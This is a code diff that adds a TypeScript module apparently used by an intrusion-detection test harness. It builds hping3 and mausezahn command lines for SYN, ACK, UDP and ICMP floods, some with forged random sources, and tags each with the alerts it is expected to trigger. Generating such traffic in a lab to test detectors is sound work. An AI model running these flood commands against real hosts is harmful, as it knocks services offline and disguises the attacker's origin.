@@ -1,0 +1,58 @@
+/** Floods: SYN, ACK, UDP and ICMP, from true and from forged sources. */
+import { type Attack, single } from './attack.ts';
+
+const speeds = { fast: [1000, 5000], medium: [100, 300], slow: [50, 70] } as const;
+
+/** `open`: the victim's port answers; `dark`: it drops everything. */
+function hping(name: string, alerts: readonly string[], options: string, victim: 'web' | 'dark' = 'web'): Attack {
+  return {
+    class: `flood.${name}`,
+    alerts,
+    technique: 'T1498.001',
+    tool: 'hping3',
+    needs: ['hping3'],
+    speeds,
+    plan(site, rate) {
+      const target = site.address(victim);
+      const isForged = options.includes('--rand-source');
+      const count = Math.round(Math.min(12_000, Math.max(500, rate * 4)));
+      const command = `hping3 ${options} -i u${Math.round(1e6 / rate)} -c ${count} -n -q ${target}`;
+      return single('evil', command, isForged ? [] : [site.address('evil')], [target], Math.ceil(count / rate) + 6);
+    },
+  };
+}
+
+function mausezahn(name: string, alerts: readonly string[], payload: string, bytes: number): Attack {
+  return {
+    class: `flood.${name}`,
+    alerts,
+    technique: 'T1498.001',
+    tool: 'mausezahn',
+    needs: ['mausezahn'],
+    speeds,
+    plan(site, rate) {
+      const target = site.address('web');
+      const count = Math.round(Math.min(12_000, Math.max(500, rate * 4)));
+      const command = `mausezahn eth0 -q -a ${site.mac('evil')} -b ${site.mac('web')} -A ${site.address('evil')} -B ${target} -c ${count} -d ${Math.round(1e6 / rate)}u -p ${bytes} -t ${payload}`;
+      return single('evil', command, [site.address('evil')], [target], Math.ceil(count / rate) + 6);
+    },
+  };
+}
+
+export const floods: readonly Attack[] = [
+  hping('syn', ['flood.syn'], '-S -p 80'),
+  hping('syn.forged', ['flood.syn'], '-S -p 80 --rand-source'),
+  hping('syn.silent', ['flood.syn'], '-S -p 443', 'dark'),
+  hping('ack', ['flood.ack'], '-A -p 80'),
+  hping('ack.forged', ['flood.ack'], '-A -p 80 --rand-source'),
+  hping('udp', ['flood.udp'], '--udp -p 9'),
+  hping('udp.flow', ['flood.udp'], '--udp -p 80 -s 5000 -k'),
+  hping('udp.flow.silent', ['flood.udp'], '--udp -p 53 -s 5000 -k -d 400', 'dark'),
+  hping('udp.forged', ['flood.udp'], '--udp -p 53 --rand-source'),
+  hping('udp.random', ['flood.udp', 'scan.vertical'], '--udp -p ++1 -d 200'),
+  mausezahn('udp.random', ['flood.udp'], 'udp sp=4000,dp=1-65535', 500),
+  mausezahn('syn.random', ['flood.syn', 'scan.vertical'], 'tcp flags=syn,sp=1-65535,dp=80', 0),
+  hping('icmp', ['flood.icmp'], '--icmp'),
+  hping('icmp.forged', ['flood.icmp'], '--icmp --rand-source'),
+  hping('icmp.silent', ['flood.icmp'], '--icmp', 'dark'),
+];
